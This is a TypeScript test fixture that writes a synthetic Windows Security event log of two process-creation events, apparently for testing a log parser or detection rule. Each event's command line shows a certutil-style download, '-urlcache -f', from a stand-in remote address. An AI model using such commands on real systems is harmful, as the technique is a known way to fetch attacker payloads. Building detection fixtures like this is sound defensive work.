import { type TestElement, type TestRecord, value, writeEvtx } from '../events/evtx-writer.ts';

/** A binary Windows log of two new processes: `certutil.exe` and `notepad.exe`. */
export function securityLog(): Uint8Array {
  return writeEvtx([[process('certutil.exe', 1), process('notepad.exe', 2)]]);
}

function process(name: string, record: number): TestRecord {
  const element = (tag: string, text: string): TestElement => ({ name: tag, content: [text] });
  const data = (key: string, text: string): TestElement => ({
    name: 'Data',
    attributes: [['Name', [key]]],
    content: [text],
  });
  return {
    template: {
      name: 'Event',
      attributes: [['xmlns', ['http://schemas.microsoft.com/win/2004/08/events/event']]],
      content: [
        {
          name: 'System',
          content: [
            { name: 'Provider', attributes: [['Name', ['Microsoft-Windows-Security-Auditing']]] },
            element('EventID', '4688'),
            { name: 'TimeCreated', attributes: [['SystemTime', [{ slot: 0 }]]] },
            element('EventRecordID', String(record)),
            element('Channel', 'Security'),
            element('Computer', 'ws-01.corp.example'),
          ],
        },
        {
          name: 'EventData',
          content: [
            data('SubjectUserName', 'alice'),
            data('NewProcessName', `C:\\Windows\\System32\\${name}`),
            data('CommandLine', `${name} -urlcache -f http://203.0.113.9/a.txt`),
          ],
        },
      ],
    },
    values: [value(0x11, '00803ed5deb19d01')],
  };
}
